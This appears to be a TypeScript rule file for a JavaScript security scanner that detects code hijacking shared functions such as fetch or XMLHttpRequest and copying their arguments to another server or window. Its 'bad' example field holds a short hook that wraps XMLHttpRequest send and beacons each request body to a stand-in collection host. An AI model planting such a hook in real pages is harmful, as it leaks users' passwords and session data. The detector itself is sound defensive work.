import { isDeclared } from '../access-manifest.ts';
import { destinationOf } from '../facts/destinations.ts';
import { defineRule } from '../rule.ts';
import type { Source } from '../taint/source.ts';

const LEAVING = new Set(['network', 'beacon', 'navigation', 'dns', 'message']);
/** A page that shows the console of another is told what is written there. */
const SHOWN = /\bconsole\./;

export const interceptedCall = defineRule({
  id: 'intercepted-call',
  severity: 'critical',
  threat: 'exfiltration',
  title: 'What other code sends is copied elsewhere',
  why: 'A function that every script shares was replaced by one that passes its arguments on to a server: passwords and sessions of the whole page go with them.',
  fix: 'Leave shared functions as they are.',
  example: {
    bad: 'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://collect.example/", body); return send.call(this, body); };',
    good: 'const original = window.fetch; window.fetch = (...args) => { count += 1; return original(...args); };',
  },
  cwe: 200,
  visit: {
    flow: (flow, { file, manifest, report }) => {
      const { source, sink } = flow;
      const isPassedBy =
        source.kind === 'request' &&
        /\.(?:body|headers|cookies)$/.test(source.label) &&
        /\bnext\(\)/.test(file.text);
      if ((source.kind !== 'intercepted' && !isPassedBy) || !LEAVING.has(sink.kind)) return;
      if (sink.kind === 'message') {
        if (!isPassedBy && !SHOWN.test(source.label))
          report(sink.node, {
            severity: 'high',
            flow,
            message: `What is passed to ${nameOf(source)} is told to another window.`,
          });
        return;
      }
      const destination = sink.destination ? destinationOf(sink.destination, file) : null;
      // Passing the call on to where it was going is what every wrapper does.
      if (destination?.kind !== 'origin') return;
      const isAllowed = manifest !== null && isDeclared(destination.url, manifest.origins);
      report(sink.node, {
        severity: isAllowed || isPassedBy ? 'high' : 'critical',
        flow,
        message: `What is passed to ${nameOf(source)} is copied to ${destination.origin}.`,
      });
    },
  },
});

/** The function that was replaced. */
function nameOf({ label }: Source): string {
  return label.replace(/^\w+ of /, '');
}
